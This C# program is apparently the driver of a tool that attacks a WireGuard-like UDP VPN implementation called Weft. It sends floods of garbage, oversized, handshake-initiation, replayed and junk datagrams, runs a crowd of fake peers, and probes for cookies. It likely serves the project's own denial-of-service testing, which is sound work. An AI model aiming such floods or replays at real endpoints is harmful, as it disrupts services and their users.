using Weft.Attack;
using Weft.Attack.Volleys;
using Weft.Crypto;
using Weft.Linux;

const string help = "--help";
try
{
    if (args is [] or [help, ..])
    {
        Console.WriteLine(Options.Usage);
        return 0;
    }
    Options options = Options.Parse(args);
    if (options.Kind == "keys")
        WriteKeys(options);
    else
        Attack(options);
    return 0;
}
catch (FormatException e)
{
    Console.Error.WriteLine(e.Message);
    Console.Error.WriteLine(Options.Usage);
    return 2;
}

static void WriteKeys(Options options)
{
    for (int i = 0; i < options.Peers; i++)
    {
        using PrivateKey key = Identities.Key(options.Seed, i);
        Console.WriteLine(key.ToPublicKey());
    }
}

static void Attack(Options options)
{
    bool isIPv6 = Magazine.Address(options).IsIPv6;
    using UdpSocket socket = UdpSocket.Bind(isIPv6, port: 0, mark: 0, offloads: false);
    SourceRange sources = new(options.Sources);
    if (options.Kind == "crowd")
    {
        using Crowd crowd = new(socket, options, sources);
        crowd.Run();
        return;
    }
    using FakePeer peer = new(socket, options, number: 0, sources[0]);
    Magazine magazine = new(options, sources);
    switch (options.Kind)
    {
        case "garbage":
            Shoot(Blind.Garbage(magazine), receive: null);
            break;
        case "oversized":
            Shoot(Blind.Oversized(magazine), receive: null);
            break;
        case "initiations":
            Shoot(Blind.Initiations(magazine, options.Key), receive: null);
            break;
        case "cookies":
            Cookies cookies = new(options, sources);
            Shoot(cookies, cookies.Receive);
            Console.WriteLine($"{cookies.Held} of {sources.Count} addresses had a cookie");
            break;
        case "replays":
            Genuine genuine = Genuine.Make(socket, peer, options);
            Shoot(Blind.Replays(magazine, genuine.Initiation, genuine.Data), receive: null);
            break;
        case "junk":
            Junk junk = new(options, sources, peer);
            Shoot(junk, junk.Receive);
            break;
        default:
            throw new FormatException($"{options.Kind}: no such attack");
    }

    void Shoot(IVolley volley, Receiver? receive)
    {
        Console.WriteLine("begins");
        using Listener listener = new(socket, receive);
        Shooter shooter = new(socket, volley, options);
        shooter.Run();
        Console.WriteLine($"{shooter.Sent} datagrams");
    }
}
